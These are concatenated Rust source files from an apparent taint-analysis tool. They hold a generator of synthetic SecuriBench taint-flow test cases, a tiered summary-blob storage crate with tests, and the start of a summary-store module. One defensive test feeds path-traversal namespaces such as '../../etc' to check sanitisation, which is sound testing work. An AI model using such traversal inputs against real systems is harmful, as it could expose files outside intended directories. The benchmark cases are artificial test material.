            1 => format!("    v = staticinvoke <{cls}: java.lang.String produce(java.lang.String)>(s)\n"),
            // Factory selects between two products; one is tainted.
            _ => format!("    if opaque goto clean\n    p = staticinvoke <{cls}: {prod} create(java.lang.String)>(s)\n    goto merge\n  label clean:\n    p = staticinvoke <{cls}: {prod} create(java.lang.String)>(\"c\")\n  label merge:\n    v = p.val\n"),
        };
        let code = format!(
            "class {cls} extends java.lang.Object {{\n  static method main() -> void {{\n    let s: java.lang.String\n    let v: java.lang.String\n    let p: {prod}\n    s = {SRC}\n{body}    {snk}\n    return\n  }}\n  static method create(t: java.lang.String) -> {prod} {{\n    let x: {prod}\n    x = new {prod}\n    specialinvoke x.<{prod}: void <init>()>()\n    x.val = t\n    return x\n  }}\n  static method produce(t: java.lang.String) -> java.lang.String {{\n    let r: java.lang.String\n    r = t + \"\"\n    return r\n  }}\n}}\nclass {prod} extends java.lang.Object {{\n  field val: java.lang.String\n  method <init>() -> void {{ return }}\n}}\n",
            snk = sink("v"),
        );
        out.push(MicroCase::new(name, Group::Factory, 1, 0, false, cls, code));
    }
    out
}

// ===================== Inter =====================

fn inter() -> Vec<MicroCase> {
    let mut out = Vec::new();
    for i in 0..16 {
        let name = format!("Inter{i}");
        let cls = format!("securibench.inter.Case{i}");
        if i >= 14 {
            // Thread hand-off: the Runnable's run() is never modeled
            // (the paper's multi-threading limitation).
            let runnable = format!("{cls}$R");
            let code = format!(
                "class {cls} extends java.lang.Object {{\n  static method main() -> void {{\n    let s: java.lang.String\n    let r: {runnable}\n    let t: java.lang.Thread\n    s = {SRC}\n    r = new {runnable}\n    specialinvoke r.<{runnable}: void <init>()>()\n    r.payload = s\n    t = new java.lang.Thread\n    specialinvoke t.<java.lang.Thread: void <init>(java.lang.Runnable)>(r)\n    virtualinvoke t.<java.lang.Thread: void start()>()\n    return\n  }}\n}}\nclass {runnable} extends java.lang.Object implements java.lang.Runnable {{\n  field payload: java.lang.String\n  method <init>() -> void {{ return }}\n  method run() -> void {{\n    let w: java.lang.String\n    w = this.payload\n    {snk}\n    return\n  }}\n}}\n",
                snk = sink("w"),
            );
            out.push(MicroCase::new(name, Group::Inter, 1, 0, true, cls, code));
            continue;
        }
        // Call chains of depth (i % 5) + 1, alternating static /
        // instance helpers and pass-by-parameter / pass-by-return.
        let depth = (i % 5) + 1;
        let by_return = i % 2 == 0;
        let instance = i >= 7;
        let mut methods = String::new();
        let this_kw = if instance { "method" } else { "static method" };
        for d in 0..depth {
            let next = d + 1;
            if by_return {
                let inner = if next == depth {
                    "    return x\n".to_owned()
                } else if instance {
                    format!("    let r: java.lang.String\n    r = virtualinvoke this.<{cls}: java.lang.String f{next}(java.lang.String)>(x)\n    return r\n")
                } else {
                    format!("    let r: java.lang.String\n    r = staticinvoke <{cls}: java.lang.String f{next}(java.lang.String)>(x)\n    return r\n")
                };
                methods.push_str(&format!(
                    "  {this_kw} f{d}(x: java.lang.String) -> java.lang.String {{\n{inner}  }}\n"
                ));
            } else {
                let inner = if next == depth {
                    format!("    {}\n    return\n", sink("x"))
                } else if instance {
                    format!("    virtualinvoke this.<{cls}: void f{next}(java.lang.String)>(x)\n    return\n")
                } else {
                    format!("    staticinvoke <{cls}: void f{next}(java.lang.String)>(x)\n    return\n")
                };
                methods.push_str(&format!(
                    "  {this_kw} f{d}(x: java.lang.String) -> void {{\n{inner}  }}\n"
                ));
            }
        }
        let invoke = if by_return {
            if instance {
                format!("    v = virtualinvoke me.<{cls}: java.lang.String f0(java.lang.String)>(s)\n    {}\n", sink("v"))
            } else {
                format!("    v = staticinvoke <{cls}: java.lang.String f0(java.lang.String)>(s)\n    {}\n", sink("v"))
            }
        } else if instance {
            format!("    virtualinvoke me.<{cls}: void f0(java.lang.String)>(s)\n")
        } else {
            format!("    staticinvoke <{cls}: void f0(java.lang.String)>(s)\n")
        };
        let alloc_me = if instance {
            format!("    me = new {cls}\n    specialinvoke me.<{cls}: void <init>()>()\n")
        } else {
            String::new()
        };
        let ctor = if instance {
            "  method <init>() -> void { return }\n".to_owned()
        } else {
            String::new()
        };
        let code = format!(
            "class {cls} extends java.lang.Object {{\n  static method main() -> void {{\n    let s: java.lang.String\n    let v: java.lang.String\n    let me: {cls}\n    s = {SRC}\n{alloc_me}{invoke}    return\n  }}\n{ctor}{methods}}}\n"
        );
        out.push(MicroCase::new(name, Group::Inter, 1, 0, false, cls, code));
    }
    out
}

// ===================== Session =====================

fn session() -> Vec<MicroCase> {
    let mut out = Vec::new();
    for i in 0..3 {
        let name = format!("Session{i}");
        let cls = format!("securibench.sess.Case{i}");
        let sess = format!("{cls}$Session");
        let body = match i {
            // Attribute set and read through the session API.
            0 => format!("    virtualinvoke ses.<{sess}: void setAttribute(java.lang.String,java.lang.String)>(\"key\", s)\n    v = virtualinvoke ses.<{sess}: java.lang.String getAttribute(java.lang.String)>(\"key\")\n"),
            // Session handed to a helper that stores; main reads.
            1 => format!("    staticinvoke <{cls}: void store({sess},java.lang.String)>(ses, s)\n    v = virtualinvoke ses.<{sess}: java.lang.String getAttribute(java.lang.String)>(\"key\")\n"),
            // Stored in main, leaked by a helper.
            _ => format!("    virtualinvoke ses.<{sess}: void setAttribute(java.lang.String,java.lang.String)>(\"key\", s)\n    staticinvoke <{cls}: void emit({sess})>(ses)\n    v = \"done\"\n"),
        };
        let main_sink = if i == 2 { String::new() } else { format!("    {}\n", sink("v")) };
        let code = format!(
            "class {cls} extends java.lang.Object {{\n  static method main() -> void {{\n    let s: java.lang.String\n    let v: java.lang.String\n    let ses: {sess}\n    s = {SRC}\n    ses = new {sess}\n    specialinvoke ses.<{sess}: void <init>()>()\n{body}{main_sink}    return\n  }}\n  static method store(x: {sess}, t: java.lang.String) -> void {{\n    virtualinvoke x.<{sess}: void setAttribute(java.lang.String,java.lang.String)>(\"key\", t)\n    return\n  }}\n  static method emit(x: {sess}) -> void {{\n    let w: java.lang.String\n    w = virtualinvoke x.<{sess}: java.lang.String getAttribute(java.lang.String)>(\"key\")\n    {snk}\n    return\n  }}\n}}\nclass {sess} extends java.lang.Object {{\n  field attr: java.lang.String\n  method <init>() -> void {{ return }}\n  method setAttribute(k: java.lang.String, val: java.lang.String) -> void {{\n    this.attr = val\n    return\n  }}\n  method getAttribute(k: java.lang.String) -> java.lang.String {{\n    let r: java.lang.String\n    r = this.attr\n    return r\n  }}\n}}\n",
            snk = sink("w"),
        );
        out.push(MicroCase::new(name, Group::Session, 1, 0, false, cls, code));
    }
    out
}

// ===================== StrongUpdates =====================

/// All cases overwrite the tainted *local* before the sink: no real
/// leak, and the analysis's strong updates on locals keep them clean
/// (0 TP / 0 FP in Table 2).
fn strong_updates() -> Vec<MicroCase> {
    let mut out = Vec::new();
    for i in 0..4 {
        let name = format!("StrongUpdates{i}");
        let cls = format!("securibench.su.Case{i}");
        let body = match i {
            0 => "    v = s\n    v = \"clean\"\n".to_owned(),
            1 => "    v = s + \"x\"\n    v = \"clean\" + \"er\"\n".to_owned(),
            2 => format!("    v = staticinvoke <{cls}: java.lang.String scrub(java.lang.String)>(s)\n"),
            _ => "    v = s\n    v = null\n    v = \"fresh\"\n".to_owned(),
        };
        let code = format!(
            "class {cls} extends java.lang.Object {{\n  static method main() -> void {{\n    let s: java.lang.String\n    let v: java.lang.String\n    s = {SRC}\n{body}    {snk}\n    return\n  }}\n  static method scrub(x: java.lang.String) -> java.lang.String {{\n    x = \"scrubbed\"\n    return x\n  }}\n}}\n",
            snk = sink("v"),
        );
        out.push(MicroCase::new(name, Group::StrongUpdates, 0, 0, false, cls, code));
    }
    out
}
