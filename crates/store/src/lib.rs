#![warn(missing_docs)]

//! Tiered, pluggable persistence for summary blobs.
//!
//! The summary cache (`flowdroid-summaries`) speaks *decoded* stores;
//! this crate speaks *opaque blobs* keyed by `(namespace,
//! context_hash)` and stacks storage tiers behind one
//! [`SummaryBackend`] trait:
//!
//! 1. [`MemoryTier`] — a byte-bounded in-process LRU, so re-opening a
//!    released store costs no I/O;
//! 2. [`LocalDirTier`] — one `summaries.fdss` file per namespace under
//!    the cache directory (the namespace-less layout is byte-identical
//!    to the pre-tier single-file store);
//! 3. [`ChunkTier`] — a content-addressed chunk store (FNV-1a64-keyed
//!    chunks plus per-key manifests). Chunks are immutable and
//!    self-verifying, so the directory can be rsynced / shared between
//!    hosts and is ready to back a remote tier.
//!
//! [`TieredStore`] stacks the tiers: loads try each tier in order and
//! *promote* the first valid blob into the tiers above it; stores
//! write through every tier. Blob validity is the caller's call (a
//! `validate` closure), because only the caller can decode the blob
//! and check its configuration fingerprint — an invalid blob in one
//! tier is counted as that tier's miss and the search continues
//! below. Per-tier hit/miss/write/promotion counters are kept by the
//! stack and surface in daemon `stats` and `BENCH_solver.json`.

use std::collections::HashMap;
use std::fmt;
use std::io;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// FNV-1a 64-bit hash (same parameters as the `summaries.fdss` wire
/// checksum, re-stated here so this crate stays dependency-free).
pub fn fnv1a64(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x100_0000_01b3);
    }
    h
}

/// Identifies one blob in a backend: which client namespace it belongs
/// to and the configuration fingerprint it was computed under.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub struct BlobKey {
    /// Per-client cache namespace (`""` is the shared default).
    pub namespace: String,
    /// Configuration fingerprint of the summaries in the blob.
    pub context_hash: u64,
}

impl BlobKey {
    /// Convenience constructor.
    pub fn new(namespace: &str, context_hash: u64) -> Self {
        BlobKey { namespace: namespace.to_string(), context_hash }
    }
}

/// Cumulative counters for one tier in a [`TieredStore`].
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct TierStats {
    /// Loads answered by this tier with a valid blob.
    pub hits: u64,
    /// Loads this tier could not answer (absent or invalid blob).
    pub misses: u64,
    /// Write-through stores into this tier.
    pub writes: u64,
    /// Blobs copied up into this tier after a lower tier hit.
    pub promotions: u64,
}

/// One pluggable storage tier. Implementations store opaque blobs; they
/// never interpret the bytes (validity is checked by the caller).
pub trait SummaryBackend: Send + Sync {
    /// Short stable tier name (`"memory"`, `"local"`, `"chunk"`, …).
    fn tier_name(&self) -> &'static str;
    /// Loads the blob for `key`, or `Ok(None)` if absent. A corrupt
    /// entry (failed self-check) is reported as absent, not an error:
    /// a damaged tier must degrade to a cold cache, not fail analyses.
    fn load(&self, key: &BlobKey) -> io::Result<Option<Vec<u8>>>;
    /// Stores (replaces) the blob for `key`.
    fn store(&self, key: &BlobKey, bytes: &[u8]) -> io::Result<()>;
    /// Drops every blob held by this tier, where that makes sense
    /// (the memory tier); persistent tiers may ignore it.
    fn clear(&self) {}
}

// ================= memory tier =================

/// Byte-bounded in-process LRU over encoded blobs.
pub struct MemoryTier {
    cap_bytes: usize,
    inner: Mutex<MemInner>,
}

#[derive(Default)]
struct MemInner {
    map: HashMap<BlobKey, (Vec<u8>, u64)>,
    tick: u64,
    bytes: usize,
}

impl MemoryTier {
    /// Creates a tier holding at most `cap_bytes` of blob payload.
    pub fn new(cap_bytes: usize) -> Self {
        MemoryTier { cap_bytes: cap_bytes.max(1), inner: Mutex::new(MemInner::default()) }
    }

    /// Number of resident blobs.
    pub fn len(&self) -> usize {
        self.inner.lock().unwrap().map.len()
    }

    /// Whether the tier holds nothing.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    fn evict_to_cap(inner: &mut MemInner, cap: usize) {
        while inner.bytes > cap && !inner.map.is_empty() {
            // Smallest tick = least recently used. The map is tiny (one
            // blob per open namespace), so a scan beats bookkeeping.
            let victim = inner
                .map
                .iter()
                .min_by_key(|(_, (_, tick))| *tick)
                .map(|(k, _)| k.clone())
                .expect("non-empty map has a minimum");
            if let Some((bytes, _)) = inner.map.remove(&victim) {
                inner.bytes -= bytes.len();
            }
        }
    }
}

impl SummaryBackend for MemoryTier {
    fn tier_name(&self) -> &'static str {
        "memory"
    }

    fn load(&self, key: &BlobKey) -> io::Result<Option<Vec<u8>>> {
        let mut inner = self.inner.lock().unwrap();
        inner.tick += 1;
        let tick = inner.tick;
        Ok(inner.map.get_mut(key).map(|(bytes, t)| {
            *t = tick;
            bytes.clone()
        }))
    }

    fn store(&self, key: &BlobKey, bytes: &[u8]) -> io::Result<()> {
        let mut inner = self.inner.lock().unwrap();
        inner.tick += 1;
        let tick = inner.tick;
        if let Some((old, _)) = inner.map.remove(key) {
            inner.bytes -= old.len();
        }
        inner.bytes += bytes.len();
        inner.map.insert(key.clone(), (bytes.to_vec(), tick));
        Self::evict_to_cap(&mut inner, self.cap_bytes);
        Ok(())
    }

    fn clear(&self) {
        let mut inner = self.inner.lock().unwrap();
        inner.map.clear();
        inner.bytes = 0;
    }
}

// ================= local directory tier =================

/// Maps a namespace to a filesystem-safe directory component. The
/// default namespace maps to the root itself (the pre-namespace
/// layout); anything unusual is disambiguated with a hash so two
/// namespaces can never collide on one path.
fn namespace_component(ns: &str) -> Option<String> {
    if ns.is_empty() {
        return None;
    }
    let clean: String = ns
        .chars()
        .take(64)
        .map(|c| if c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-') { c } else { '_' })
        .collect();
    // No dot-dot runs and no leading/trailing dots: the component must
    // never look like a relative path escape.
    let clean = clean.replace("..", "__").trim_matches('.').to_string();
    if clean == ns {
        Some(format!("ns-{clean}"))
    } else {
        Some(format!("ns-{clean}-{:016x}", fnv1a64(ns.as_bytes())))
    }
}

/// The directory a [`LocalDirTier`] rooted at `root` keeps the blob for
/// namespace `ns` in (the blob file inside it is `summaries.fdss`).
pub fn local_store_dir(root: &Path, ns: &str) -> PathBuf {
    match namespace_component(ns) {
        None => root.to_path_buf(),
        Some(c) => root.join(c),
    }
}

/// Name of the blob file inside a [`LocalDirTier`] namespace directory.
pub const LOCAL_FILE_NAME: &str = "summaries.fdss";

/// One `summaries.fdss` file per namespace under a root directory.
pub struct LocalDirTier {
    root: PathBuf,
}

impl LocalDirTier {
    /// Creates a tier rooted at `root` (created lazily on first store).
    pub fn new(root: &Path) -> Self {
        LocalDirTier { root: root.to_path_buf() }
    }

    fn path_for(&self, key: &BlobKey) -> PathBuf {
        local_store_dir(&self.root, &key.namespace).join(LOCAL_FILE_NAME)
    }
}

impl SummaryBackend for LocalDirTier {
    fn tier_name(&self) -> &'static str {
        "local"
    }

    fn load(&self, key: &BlobKey) -> io::Result<Option<Vec<u8>>> {
        match std::fs::read(self.path_for(key)) {
            Ok(bytes) => Ok(Some(bytes)),
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(None),
            Err(e) => Err(e),
        }
    }

    fn store(&self, key: &BlobKey, bytes: &[u8]) -> io::Result<()> {
        let path = self.path_for(key);
        let dir = path.parent().expect("store path has a parent");
        std::fs::create_dir_all(dir)?;
        // Atomic replace: readers only ever see a complete file.
        let tmp = dir.join(format!("{LOCAL_FILE_NAME}.tmp.{}", std::process::id()));
        std::fs::write(&tmp, bytes)?;
        std::fs::rename(&tmp, &path)
    }
}

// ================= content-addressed chunk tier =================

/// Size blobs are split into before content addressing. Small enough
/// that an incremental flush re-uploads only changed chunks, large
/// enough that manifests stay short.
pub const CHUNK_SIZE: usize = 4096;

const MANIFEST_MAGIC: &str = "flowdroid-chunks v1";

/// Content-addressed chunk store: `chunks/<fnv1a64>` hold immutable,
/// self-verifying chunk payloads shared across namespaces and
/// configurations; `manifests/<namespace>-<context>` name the chunk
/// sequence of one blob. The layout is replication-friendly (chunks
/// never change, manifests are swapped atomically), which is what a
/// remote tier would sync.
pub struct ChunkTier {
    root: PathBuf,
}

impl ChunkTier {
    /// Creates a tier rooted at `root` (created lazily on first store).
    pub fn new(root: &Path) -> Self {
        ChunkTier { root: root.to_path_buf() }
    }

    fn manifest_path(&self, key: &BlobKey) -> PathBuf {
        let ns = namespace_component(&key.namespace).unwrap_or_else(|| "default".to_string());
        self.root.join("manifests").join(format!("{ns}-{:016x}", key.context_hash))
    }

    fn chunk_path(&self, hash: u64) -> PathBuf {
        self.root.join("chunks").join(format!("{hash:016x}"))
    }
}

impl SummaryBackend for ChunkTier {
    fn tier_name(&self) -> &'static str {
        "chunk"
    }

    fn load(&self, key: &BlobKey) -> io::Result<Option<Vec<u8>>> {
        let manifest = match std::fs::read_to_string(self.manifest_path(key)) {
            Ok(text) => text,
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(None),
            Err(e) => return Err(e),
        };
        let mut lines = manifest.lines();
        if lines.next() != Some(MANIFEST_MAGIC) {
            return Ok(None); // unknown manifest format: treat as absent
        }
        let Some(total) = lines
            .next()
            .and_then(|l| l.strip_prefix("len "))
            .and_then(|n| n.parse::<usize>().ok())
        else {
            return Ok(None);
        };
        let mut blob = Vec::with_capacity(total);
        for line in lines {
            let Ok(hash) = u64::from_str_radix(line, 16) else { return Ok(None) };
            let chunk = match std::fs::read(self.chunk_path(hash)) {
                Ok(c) => c,
                Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(None),
                Err(e) => return Err(e),
            };
            // Chunks are self-verifying: the name *is* the content hash.
            if fnv1a64(&chunk) != hash {
                return Ok(None);
            }
            blob.extend_from_slice(&chunk);
        }
        if blob.len() != total {
            return Ok(None);
        }
        Ok(Some(blob))
    }

    fn store(&self, key: &BlobKey, bytes: &[u8]) -> io::Result<()> {
        let chunk_dir = self.root.join("chunks");
        std::fs::create_dir_all(&chunk_dir)?;
        let mut manifest = format!("{MANIFEST_MAGIC}\nlen {}\n", bytes.len());
        for chunk in bytes.chunks(CHUNK_SIZE) {
            let hash = fnv1a64(chunk);
            let path = self.chunk_path(hash);
            // Content-addressed: an existing chunk already holds these
            // exact bytes, so re-flushing an unchanged store writes
            // nothing but the manifest.
            if !path.exists() {
                let tmp = chunk_dir.join(format!("{hash:016x}.tmp.{}", std::process::id()));
                std::fs::write(&tmp, chunk)?;
                std::fs::rename(&tmp, &path)?;
            }
            manifest.push_str(&format!("{hash:016x}\n"));
        }
        let mpath = self.manifest_path(key);
        let mdir = mpath.parent().expect("manifest path has a parent");
        std::fs::create_dir_all(mdir)?;
        let tmp = mdir.join(format!(
            "{}.tmp.{}",
            mpath.file_name().expect("manifest file name").to_string_lossy(),
            std::process::id()
        ));
        std::fs::write(&tmp, manifest)?;
        std::fs::rename(&tmp, &mpath)
    }
}

// ================= the tiered stack =================

struct Tier {
    backend: Arc<dyn SummaryBackend>,
    hits: AtomicU64,
    misses: AtomicU64,
    writes: AtomicU64,
    promotions: AtomicU64,
}

/// A stack of [`SummaryBackend`] tiers: loads search top-down with
/// promotion, stores write through every tier.
pub struct TieredStore {
    tiers: Vec<Tier>,
}

impl fmt::Debug for TieredStore {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let names: Vec<_> = self.tiers.iter().map(|t| t.backend.tier_name()).collect();
        f.debug_struct("TieredStore").field("tiers", &names).finish()
    }
}

/// One row of [`TieredStore::stats`].
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TierStatsNamed {
    /// The tier's name, top of the stack first.
    pub name: &'static str,
    /// Its cumulative counters.
    pub stats: TierStats,
}

impl TieredStore {
    /// Stacks `backends`, first entry fastest / searched first.
    pub fn new(backends: Vec<Arc<dyn SummaryBackend>>) -> Self {
        TieredStore {
            tiers: backends
                .into_iter()
                .map(|backend| Tier {
                    backend,
                    hits: AtomicU64::new(0),
                    misses: AtomicU64::new(0),
                    writes: AtomicU64::new(0),
                    promotions: AtomicU64::new(0),
                })
                .collect(),
        }
    }

    /// The standard three-tier stack rooted at a cache directory:
    /// memory LRU (`mem_cap_bytes`) over local store files over the
    /// content-addressed chunk store in `<root>/chunks`.
    pub fn standard(root: &Path, mem_cap_bytes: usize) -> Self {
        TieredStore::new(vec![
            Arc::new(MemoryTier::new(mem_cap_bytes)),
            Arc::new(LocalDirTier::new(root)),
            Arc::new(ChunkTier::new(root)),
        ])
    }

    /// Loads the first blob for `key` that `validate` accepts, trying
    /// tiers top-down. The winning blob is promoted (copied) into every
    /// tier above the one that held it. Returns the blob and the name
    /// of the tier that answered. I/O errors in one tier degrade to a
    /// miss in that tier.
    pub fn load(
        &self,
        key: &BlobKey,
        validate: &dyn Fn(&[u8]) -> bool,
    ) -> Option<(Vec<u8>, &'static str)> {
        for (i, tier) in self.tiers.iter().enumerate() {
            let blob = tier.backend.load(key).ok().flatten().filter(|b| validate(b));
            match blob {
                Some(bytes) => {
                    tier.hits.fetch_add(1, Ordering::Relaxed);
                    for upper in &self.tiers[..i] {
                        if upper.backend.store(key, &bytes).is_ok() {
                            upper.promotions.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                    return Some((bytes, tier.backend.tier_name()));
                }
                None => {
                    tier.misses.fetch_add(1, Ordering::Relaxed);
                }
            }
        }
        None
    }

    /// Writes `bytes` through every tier. All tiers are attempted; the
    /// first error (if any) is returned.
    pub fn store(&self, key: &BlobKey, bytes: &[u8]) -> io::Result<()> {
        let mut first_err = None;
        for tier in &self.tiers {
            match tier.backend.store(key, bytes) {
                Ok(()) => {
                    tier.writes.fetch_add(1, Ordering::Relaxed);
                }
                Err(e) => {
                    if first_err.is_none() {
                        first_err = Some(e);
                    }
                }
            }
        }
        match first_err {
            None => Ok(()),
            Some(e) => Err(e),
        }
    }

    /// Clears every tier that supports clearing (in practice: drops the
    /// memory tier so the next load falls through to disk).
    pub fn clear_memory(&self) {
        for tier in &self.tiers {
            tier.backend.clear();
        }
    }

    /// Per-tier counters, top of the stack first.
    pub fn stats(&self) -> Vec<TierStatsNamed> {
        self.tiers
            .iter()
            .map(|t| TierStatsNamed {
                name: t.backend.tier_name(),
                stats: TierStats {
                    hits: t.hits.load(Ordering::Relaxed),
                    misses: t.misses.load(Ordering::Relaxed),
                    writes: t.writes.load(Ordering::Relaxed),
                    promotions: t.promotions.load(Ordering::Relaxed),
                },
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn temp_root(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("fdstore-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        dir
    }

    #[test]
    fn memory_tier_is_an_lru() {
        let mem = MemoryTier::new(10);
        let (a, b, c) =
            (BlobKey::new("a", 1), BlobKey::new("b", 1), BlobKey::new("c", 1));
        mem.store(&a, &[1; 4]).unwrap();
        mem.store(&b, &[2; 4]).unwrap();
        // Touch `a` so `b` is now the least recently used.
        assert!(mem.load(&a).unwrap().is_some());
        mem.store(&c, &[3; 4]).unwrap();
        assert!(mem.load(&b).unwrap().is_none(), "LRU entry evicted");
        assert!(mem.load(&a).unwrap().is_some());
        assert!(mem.load(&c).unwrap().is_some());
        mem.clear();
        assert!(mem.is_empty());
    }

    #[test]
    fn local_tier_round_trips_and_isolates_namespaces() {
        let root = temp_root("local");
        let tier = LocalDirTier::new(&root);
        let k_default = BlobKey::new("", 7);
        let k_tenant = BlobKey::new("tenant-a", 7);
        tier.store(&k_default, b"default blob").unwrap();
        tier.store(&k_tenant, b"tenant blob").unwrap();
        // The default namespace keeps the historical flat layout.
        assert!(root.join(LOCAL_FILE_NAME).is_file());
        assert_eq!(tier.load(&k_default).unwrap().unwrap(), b"default blob");
        assert_eq!(tier.load(&k_tenant).unwrap().unwrap(), b"tenant blob");
        assert!(tier.load(&BlobKey::new("tenant-b", 7)).unwrap().is_none());
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn hostile_namespaces_cannot_escape_the_root() {
        let root = temp_root("hostile");
        for ns in ["../../etc", "a/b", "..", ".hidden.", "x\0y"] {
            let dir = local_store_dir(&root, ns);
            assert!(
                dir.starts_with(&root) && dir != root,
                "namespace {ns:?} must map inside the root, got {dir:?}"
            );
            assert!(
                !dir.to_string_lossy().contains(".."),
                "namespace {ns:?} must not keep dot-dot components"
            );
        }
        // Distinct hostile namespaces stay distinct after sanitizing.
        assert_ne!(local_store_dir(&root, "a/b"), local_store_dir(&root, "a_b"));
    }

    #[test]
    fn chunk_tier_round_trips_multi_chunk_blobs() {
        let root = temp_root("chunk");
        let tier = ChunkTier::new(&root);
        let key = BlobKey::new("ns", 42);
        let blob: Vec<u8> = (0..CHUNK_SIZE * 2 + 100).map(|i| (i % 251) as u8).collect();
        tier.store(&key, &blob).unwrap();
        assert_eq!(tier.load(&key).unwrap().unwrap(), blob);
        // Other keys are absent; identical chunks are shared on disk.
        assert!(tier.load(&BlobKey::new("ns", 43)).unwrap().is_none());
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn chunk_corruption_degrades_to_absent() {
        let root = temp_root("chunkcorrupt");
        let tier = ChunkTier::new(&root);
        let key = BlobKey::new("", 1);
        tier.store(&key, b"some summary bytes").unwrap();
        // Flip a byte in every chunk file: loads must report absent.
        for entry in std::fs::read_dir(root.join("chunks")).unwrap().flatten() {
            let mut bytes = std::fs::read(entry.path()).unwrap();
            bytes[0] ^= 0x40;
            std::fs::write(entry.path(), bytes).unwrap();
        }
        assert!(tier.load(&key).unwrap().is_none());
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn tiered_load_promotes_and_counts_per_tier() {
        let root = temp_root("tiered");
        let stack = TieredStore::standard(&root, 1 << 20);
        let key = BlobKey::new("", 9);
        let accept = |_: &[u8]| true;
        assert!(stack.load(&key, &accept).is_none(), "cold stack misses everywhere");

        stack.store(&key, b"blob v1").unwrap();
        assert_eq!(stack.load(&key, &accept).unwrap(), (b"blob v1".to_vec(), "memory"));

        stack.clear_memory();
        assert_eq!(stack.load(&key, &accept).unwrap(), (b"blob v1".to_vec(), "local"));
        // The local hit was promoted: memory answers again.
        assert_eq!(stack.load(&key, &accept).unwrap(), (b"blob v1".to_vec(), "memory"));

        stack.clear_memory();
        std::fs::remove_file(root.join(LOCAL_FILE_NAME)).unwrap();
        assert_eq!(stack.load(&key, &accept).unwrap(), (b"blob v1".to_vec(), "chunk"));
        // Promotion restored the upper tiers.
        assert!(root.join(LOCAL_FILE_NAME).is_file());
        assert_eq!(stack.load(&key, &accept).unwrap(), (b"blob v1".to_vec(), "memory"));

        let stats = stack.stats();
        let by_name: HashMap<_, _> = stats.iter().map(|t| (t.name, t.stats)).collect();
        assert!(by_name["memory"].hits >= 2);
        assert_eq!(by_name["local"].hits, 1);
        assert_eq!(by_name["chunk"].hits, 1);
        assert!(by_name["local"].promotions >= 1);
        assert!(by_name["chunk"].misses >= 1);
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn rejected_blobs_fall_through_to_lower_tiers() {
        let root = temp_root("validate");
        let stack = TieredStore::standard(&root, 1 << 20);
        let key = BlobKey::new("", 5);
        stack.store(&key, b"stale").unwrap();
        // The caller's validation rejects every copy: the load misses.
        assert!(stack.load(&key, &|b: &[u8]| b != b"stale").is_none());
        let stats = stack.stats();
        assert!(stats.iter().all(|t| t.stats.hits == 0));
        std::fs::remove_dir_all(&root).unwrap();
    }
}
