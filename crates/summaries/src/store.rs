//! The summary store: in-memory tables, disk persistence, and the
//! process-wide shared registry with its visible/fresh split.

use crate::wire::{fnv1a64, Reader, Writer, MAGIC, VERSION};
use crate::{SymFact, SymSummary};
use flowdroid_store::{BlobKey, TierStatsNamed, TieredStore};
use std::collections::{BTreeMap, HashMap};
use std::fmt;
use std::io;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, OnceLock, RwLock};

/// Name of the store file inside a cache directory.
pub const STORE_FILE_NAME: &str = "summaries.fdss";

/// An error loading a store file.
#[derive(Debug)]
pub enum StoreError {
    /// Underlying I/O failure.
    Io(io::Error),
    /// The file does not start with the `FDSS` magic.
    BadMagic,
    /// The file's format version is not understood.
    BadVersion(u32),
    /// The file is structurally invalid (truncated, bad tags, checksum
    /// mismatch, …).
    Corrupt(&'static str),
}

impl fmt::Display for StoreError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            StoreError::Io(e) => write!(f, "summary store I/O error: {e}"),
            StoreError::BadMagic => write!(f, "summary store: not a FDSS file"),
            StoreError::BadVersion(v) => write!(f, "summary store: unsupported version {v}"),
            StoreError::Corrupt(what) => write!(f, "summary store corrupt: {what}"),
        }
    }
}

impl std::error::Error for StoreError {}

impl From<io::Error> for StoreError {
    fn from(e: io::Error) -> Self {
        StoreError::Io(e)
    }
}

/// All persisted summaries of one method, under one body fingerprint.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct MethodSummaries {
    /// Transitive body fingerprint the summaries were computed under.
    pub body_hash: u64,
    /// Entry fact → end summaries.
    pub entries: BTreeMap<SymFact, Vec<SymSummary>>,
}

/// Result of a store lookup.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Lookup {
    /// Summaries exist for this `(method, body hash, entry fact)`.
    Hit(Vec<SymSummary>),
    /// The method is present but under a *different* body hash — its
    /// code (or something it transitively calls) changed.
    Stale,
    /// Nothing stored for this method/entry.
    Miss,
}

/// An in-memory summary store: deterministic (`BTreeMap`-ordered)
/// tables keyed by method signature, plus the configuration fingerprint
/// the summaries were computed under.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SummaryStore {
    /// Fingerprint of the analysis configuration (sources, sinks,
    /// wrapper rules, solver options). Summaries are only meaningful
    /// under the configuration that produced them.
    pub context_hash: u64,
    methods: BTreeMap<String, MethodSummaries>,
}

impl SummaryStore {
    /// Creates an empty store for `context_hash`.
    pub fn new(context_hash: u64) -> Self {
        SummaryStore { context_hash, methods: BTreeMap::new() }
    }

    /// Number of methods with stored summaries.
    pub fn method_count(&self) -> usize {
        self.methods.len()
    }

    /// Total number of `(entry fact → summaries)` entries.
